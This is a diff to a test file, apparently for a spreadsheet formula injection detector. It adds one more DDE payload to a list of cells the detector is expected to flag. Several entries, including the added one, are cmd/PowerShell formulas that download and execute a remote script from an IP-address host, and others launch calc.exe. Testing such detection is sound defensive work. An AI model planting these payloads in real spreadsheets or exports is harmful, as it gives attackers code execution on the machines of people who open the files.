@@ -13,6 +13,8 @@ describe('spreadsheet formula injection', () => {
     '+cmd|\'/c powershell -w hidden IEX(New-Object Net.WebClient).DownloadString("http://203.0.113.77/p.ps1")\'!A1',
     "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
     '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    // arguments quoting a string of their own
+    "=cmd|' /C powershell -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.50/p.ps1')\"'!A0",
   ])('reads the DDE formula %s', (cell) => {
     expect(ids(cell)).toEqual([400126]);
   });
